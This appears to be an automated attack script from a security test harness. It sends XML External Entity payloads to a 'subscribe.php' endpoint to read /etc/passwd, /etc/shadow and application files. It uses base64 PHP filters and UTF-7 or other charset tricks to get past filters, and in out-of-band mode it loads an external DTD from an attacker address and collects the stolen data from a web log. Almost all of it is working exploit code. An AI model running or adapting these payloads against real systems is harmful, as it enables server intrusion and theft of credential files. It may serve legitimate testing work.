# Send a document for each file: first the list of accounts, then those of the application.
cd /root
phase inject

case $TASK in
forbidden) echo /etc/shadow ;;
*) echo /etc/passwd && cut -d' ' -f2 known ;;
esac >paths

case $IDENTIFIER in
system) outside=SYSTEM ;;
public) outside="PUBLIC \"-//$SITE//$ENTITY\"" ;;
esac

# document PATH
document() {
	case $FILTER in
	none) place=file://$1 ;;
	base64) place=php://filter/read=convert.base64-encode/resource=$1 ;;
	esac
	if [ "$TASK" = out-of-band ]; then
		echo "<!DOCTYPE subscription [<!ENTITY % $ENTITY $outside \"$place\"><!ENTITY % dtd $outside \"http://$ATTACKER_ADDRESS/more.dtd\">%dtd;%send;]>"
		echo "<subscription><name>$ENTITY</name><email>$ENTITY@$SITE.test</email></subscription>"
	else
		echo "<!DOCTYPE subscription [<!ENTITY $ENTITY $outside \"$place\">]>"
		echo "<subscription><name>&$ENTITY;</name><email>$ENTITY@$SITE.test</email></subscription>"
	fi
}

# encode DECLARATION DOCUMENT
encode() {
	case $ENCODING in
	# the parser knows UTF-7 only by a declaration that it can read
	utf-7) echo "$1" && echo "$2" | iconv -f utf-8 -t utf-7 ;;
	*) printf '%s\n' "$1" "$2" | iconv -f utf-8 -t "$ENCODING" ;;
	esac
}

# send FILE: prints the answer
send() {
	case $IMPLEMENTATION in
	curl) curl -sS -H 'Content-Type: application/xml' --data-binary "@$1" "http://www.$SITE.test/subscribe.php" ;;
	wget) wget -q -O - --header='Content-Type: application/xml' --post-file="$1" "http://www.$SITE.test/subscribe.php" ;;
	esac || true
}

# content: of the file, from the answer or from the address that the server asked for last.
content() {
	if [ "$TASK" = out-of-band ]; then
		log web | sed -n 's,^/take?,,p' | tail -n +$((taken + 1))
	else
		tr '\n' '\001' <answer | sed -n 's,.*<b>\(.*\)</b>.*,\1,p' | tr '\001' '\n'
	fi | if [ "$FILTER" = base64 ]; then base64 -d; else cat; fi
}

right=0
first=none
taken=0
while read -r path; do
	sleep "$PAUSE"
	encode "<?xml version=\"1.0\" encoding=\"$ENCODING\"?>" "$(document "$path")" >sent
	send sent >answer
	if [ "$TASK" = out-of-band ] && [ "$FAILURE" != no-dtd ]; then
		# The server writes in order: after this, what the page has asked for is in its log.
		curl -s "http://127.0.0.1/mark?$path" >/dev/null
		log web "^/mark\?$path\$" 1 >/dev/null
	fi
	content >content
	if [ "$TASK" = out-of-band ]; then taken=$(log web | grep -c '^/take?' || true); fi
	wc -c content
	case $path in
	/etc/*) if [ -s content ]; then first=$(head -n 1 content); fi ;;
	*) if grep -q "^$(sha256sum <content | cut -d' ' -f1) $path\$" known; then right=$((right + 1)); fi ;;
	esac
done <paths
outcome right=$right
outcome first="$first"
signal done
